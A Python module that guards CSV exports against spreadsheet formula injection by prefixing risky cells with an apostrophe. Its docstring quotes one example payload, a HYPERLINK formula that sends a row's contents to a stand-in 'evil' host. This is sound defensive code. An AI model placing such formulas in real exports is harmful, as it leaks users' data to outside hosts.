"""CSV for spreadsheets: cells a spreadsheet would run as a formula are neutralised.

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (and tab or carriage
return, which some of them strip first) as a formula: `=HYPERLINK("http://evil/?"&A1)` leaks
the row. Such text is written with a leading apostrophe, the OWASP advice; numbers stay numbers.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell_neutralise(value):
    """The cell as a spreadsheet will show it, never as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose rows go through csv_cell_neutralise: every export uses this."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([csv_cell_neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)
